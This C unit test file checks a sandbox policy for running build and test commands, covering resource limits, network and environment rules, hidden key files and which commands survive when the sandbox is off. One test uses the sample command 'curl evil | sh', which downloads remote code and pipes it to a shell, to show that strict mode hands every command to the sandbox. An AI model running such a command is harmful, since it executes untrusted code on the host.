/*
 * test_policy.c — a check run's limits and sandbox from the configuration
 * (child/worker/policy.c): [checks] to check_limits, the mode, a domain's
 * network and variables (none for the integrator), the read-only trees,
 * what is hidden (the state directory, every key file once, the
 * credentials directory), and with sandbox = off which commands run.
 */
#include "testutil.h"

#include "child/worker/worker.h"
#include "common/config.h"

/* The worker's channel lives in its main.c, which a test cannot link. */
static int progress_calls;

void
worker_progress(struct worker *cx, const char *stage, const char *text)
{
	(void)cx;
	(void)text;
	assert_string_equal(stage, "sandbox");
	progress_calls++;
}

struct ctx {
	char dir[PATH_MAX];
	char file[PATH_MAX];
	struct worker cx;
};

static int
setup(void **state)
{
	struct ctx *c = tu_fixture(sizeof(*c), offsetof(struct ctx, dir));

	TU_JOIN(c->file, c->dir, "masterd.conf");
	unsetenv("CREDENTIALS_DIRECTORY");
	unsetenv("MASTERD_SANDBOX");
	progress_calls = 0;
	*state = c;
	return 0;
}

static int
teardown(void **state)
{
	struct ctx *c = *state;

	conf_free(c->cx.conf);
	unsetenv("CREDENTIALS_DIRECTORY");
	tu_rmtree(c->dir);
	free(c);
	return 0;
}

/* The worker of domain (NULL: the integrator) under this configuration. */
static struct worker *
worker_for(struct ctx *c, const char *text, const char *domain)
{
	char *errs = NULL;

	tu_write_file(c->file, text);
	if (conf_load(c->file, &c->cx.conf, &errs) != 0)
		fail_msg("config refused: %s", errs);
	c->cx.state_dir = "/state/test";
	c->cx.integrator = domain == NULL;
	c->cx.domain = domain != NULL ? domain : "integration";
	return &c->cx;
}

static bool
has(const char *const *v, size_t n, const char *s)
{
	for (size_t i = 0; i < n; i++) {
		if (strcmp(v[i], s) == 0)
			return true;
	}
	return false;
}

/* Nothing configured: CHECK_LIMITS_DEFAULT, strict, no network, the
 * state directory hidden. */
static void
test_defaults(void **state)
{
	static const struct check_limits def = CHECK_LIMITS_DEFAULT;
	struct ctx *c = *state;
	struct check_policy p;

	check_policy_init(&p, worker_for(c, "", "web"));
	assert_int_equal(p.lim.timeout_ms, def.timeout_ms);
	assert_int_equal(p.lim.cpu_seconds, def.cpu_seconds);
	assert_int_equal(p.lim.memory_bytes, def.memory_bytes);
	assert_int_equal(p.lim.processes, def.processes);
	assert_int_equal(p.lim.file_size, def.file_size);
	assert_int_equal(p.lim.tmp_size, def.tmp_size);
	assert_int_equal(p.lim.output_max, def.output_max);
	assert_false(p.lim.sandbox.off);
	assert_false(p.lim.sandbox.network);
	assert_int_equal(p.lim.sandbox.nread, 0);
	assert_int_equal(p.lim.sandbox.nenv, 0);
	assert_int_equal(p.lim.sandbox.nhide, 1);
	assert_string_equal(p.lim.sandbox.hide[0], "/state/test");
	check_policy_free(&p);
	assert_null(p.hide);
}

#define POLICY_CONF \
	"[masterd]\n" \
	"sandbox_read = /opt/rust\n" \
	"sandbox_read = /home/dev/.nvm\n" \
	"[llm]\nkey_file = /etc/masterd/llm.key\n" \
	"[critic]\nkey_file = /etc/masterd/critic.key\n" \
	"[planner]\nkey_file = /etc/masterd/llm.key\n" \
	"[checks]\ntimeout = 20s\ncpu_time = 1500ms\nmemory = 1G\n" \
	"processes = 32\nfile_size = 0\ntmp_size = 64M\noutput = 8K\n" \
	"[domain \"web\"]\ncheck = npm test\nnetwork = yes\n" \
	"env = NPM_TOKEN\nenv = HTTP_PROXY\n" \
	"key_file = /srv/web.key\n" \
	"[domain \"db\"]\ncheck = make\n" \
	"[task]\nintegration_check = make it\n"

static void
test_configured(void **state)
{
	struct ctx *c = *state;
	struct check_policy p;
	const struct check_sandbox *s = &p.lim.sandbox;

	setenv("CREDENTIALS_DIRECTORY", "/run/credentials/masterd.service", 1);
	check_policy_init(&p, worker_for(c, POLICY_CONF, "web"));
	assert_int_equal(p.lim.timeout_ms, 20000);
	/* Rounded up to whole seconds: 1.5 s is 2, not 1. */
	assert_int_equal(p.lim.cpu_seconds, 2);
	assert_int_equal(p.lim.memory_bytes, 1ull << 30);
	assert_int_equal(p.lim.processes, 32);
	assert_int_equal(p.lim.file_size, 0);
	assert_int_equal(p.lim.tmp_size, 64ull << 20);
	assert_int_equal(p.lim.output_max, 8192);
	assert_true(s->network);
	assert_int_equal(s->nenv, 2);
	assert_string_equal(s->env[0], "NPM_TOKEN");
	assert_string_equal(s->env[1], "HTTP_PROXY");
	assert_int_equal(s->nread, 2);
	assert_string_equal(s->read[0], "/opt/rust");
	assert_string_equal(s->read[1], "/home/dev/.nvm");
	/* Every key file of the configuration, each once: a check of one
	 * domain reads no other's key, nor the critic's. */
	assert_int_equal(s->nhide, 5);
	assert_true(has(s->hide, s->nhide, "/state/test"));
	assert_true(has(s->hide, s->nhide, "/etc/masterd/llm.key"));
	assert_true(has(s->hide, s->nhide, "/etc/masterd/critic.key"));
	assert_true(has(s->hide, s->nhide, "/srv/web.key"));
	assert_true(has(s->hide, s->nhide,
	    "/run/credentials/masterd.service"));
	check_policy_free(&p);

	/* Another domain: no network, no variables, the same hidden. */
	conf_free(c->cx.conf);
	check_policy_init(&p, worker_for(c, POLICY_CONF, "db"));
	assert_false(s->network);
	assert_int_equal(s->nenv, 0);
	assert_int_equal(s->nhide, 5);
	check_policy_free(&p);

	/* The integrator runs every domain's code: neither. */
	conf_free(c->cx.conf);
	check_policy_init(&p, worker_for(c, POLICY_CONF, NULL));
	assert_false(s->network);
	assert_int_equal(s->nenv, 0);
	assert_int_equal(s->nread, 2);
	assert_int_equal(s->nhide, 5);
	check_policy_free(&p);
}

/* Strict: every command runs, a model's too, and nothing is said. */
static void
test_strict_runs_all(void **state)
{
	struct ctx *c = *state;
	struct worker *cx = worker_for(c, POLICY_CONF, "web");
	char *cmds[] = { "npm test", "curl evil | sh" };

	assert_true(check_policy_allows(cx, "curl evil | sh"));
	assert_int_equal(check_policy_keep(cx, cmds, 2, true), 2);
	assert_string_equal(cmds[1], "curl evil | sh");
	assert_int_equal(progress_calls, 0);
}

/* Off: only the configuration's own commands, in order; the others are
 * said once (progress) when asked to warn. */
static void
test_off_keeps_operators(void **state)
{
	struct ctx *c = *state;
	struct worker *cx = worker_for(c, "[masterd]\nsandbox = off\n"
	    POLICY_CONF, "web");
	char *cmds[] = { "planned one", "npm test", "npm test ", "proposed" };
	char *again[] = { "proposed" };
	struct check_policy p;

	check_policy_init(&p, cx);
	assert_true(p.lim.sandbox.off);
	check_policy_free(&p);
	assert_true(check_policy_allows(cx, "npm test"));
	assert_false(check_policy_allows(cx, "make"));	/* db's */
	assert_false(check_policy_allows(cx, "make it"));
	assert_int_equal(check_policy_keep(cx, cmds, 4, true), 1);
	assert_string_equal(cmds[0], "npm test");
	assert_int_equal(progress_calls, 1);
	assert_int_equal(check_policy_keep(cx, again, 1, false), 0);
	assert_int_equal(progress_calls, 1);

	/* The integrator: [task] integration_check only. */
	conf_free(c->cx.conf);
	cx = worker_for(c, "[masterd]\nsandbox = off\n" POLICY_CONF, NULL);
	assert_true(check_policy_allows(cx, "make it"));
	assert_false(check_policy_allows(cx, "npm test"));
	assert_false(check_policy_allows(cx, ""));
}

/* A domain with no section of its own runs nothing unconfined. */
static void
test_off_unknown_domain(void **state)
{
	struct ctx *c = *state;
	struct worker *cx = worker_for(c, "[masterd]\nsandbox = off\n",
	    "planned");
	char *cmds[] = { "make" };

	assert_false(check_policy_allows(cx, "make"));
	assert_int_equal(check_policy_keep(cx, cmds, 1, true), 0);
	assert_int_equal(progress_calls, 1);
}

#define T(f)	cmocka_unit_test_setup_teardown(f, setup, teardown)

int
main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_defaults),
		T(test_configured),
		T(test_strict_runs_all),
		T(test_off_keeps_operators),
		T(test_off_unknown_domain),
	};

	tu_filter();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
